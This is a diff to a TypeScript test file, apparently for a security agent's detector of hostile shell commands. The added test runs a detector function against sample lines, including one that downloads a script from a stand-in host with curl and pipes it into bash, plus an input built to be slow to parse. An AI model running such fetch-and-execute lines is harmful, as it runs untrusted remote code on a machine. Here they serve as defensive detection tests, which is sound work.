@@ -6,6 +6,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import { parse } from 'yaml'
 import { createProbe } from '../../../../agent/host/probe.ts'
 import { changesBetween, eventOf } from '../../../../agent/sense/power/compare.ts'
+import { isHostileInShell } from '../../../../agent/sense/power/places.ts'
 import { Snapshots } from '../../../../agent/sense/power/snapshot.ts'
 import { systemTime } from '../../../../agent/system-time.ts'
 import { silent } from '../bench-machine.ts'
@@ -144,4 +145,11 @@ describe.skipIf(process.platform !== 'linux' || !existsSync(attacks))('an attack
       expect(facts?.technique).toBe('T1053.003')
     }
   })
+})
+
+it('reads a line that was made to be slow at once, and knows what runs what it fetches', () => {
+  expect(isHostileInShell(`${'curl '.repeat(2_000)}${'|'.repeat(60_000)}`)).toBe(false)
+  expect(isHostileInShell('true; curl -s http://x/y | tee z | sudo /bin/bash -s')).toBe(false)
+  expect(isHostileInShell('true; curl -s http://x/y | tee z | /bin/bash -s')).toBe(true)
+  expect(isHostileInShell('curl x > y\ncat y | grep sh')).toBe(false)
 })
